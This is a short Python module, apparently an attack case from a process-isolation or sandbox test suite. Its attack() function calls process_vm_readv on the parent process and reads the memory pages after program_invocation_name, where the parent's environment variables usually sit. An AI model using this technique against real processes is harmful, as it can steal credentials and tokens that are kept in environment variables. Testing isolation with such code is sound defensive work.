"""Copies the environment of the process it was forked from: addresses are the same after fork."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(world):
    program_name = ctypes.c_void_p.in_dll(LIBC, "program_invocation_name").value
    length = 4096
    buffer = ctypes.create_string_buffer(length)
    here, found = Span(ctypes.addressof(buffer), length), b""
    page = program_name & -length
    for address in (page, page + length, page + 2 * length):  # the environment follows
        there = Span(address, length)
        got = LIBC.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if got < 0 and found:
            break
        found += buffer.raw[: checked(got)]
    return found
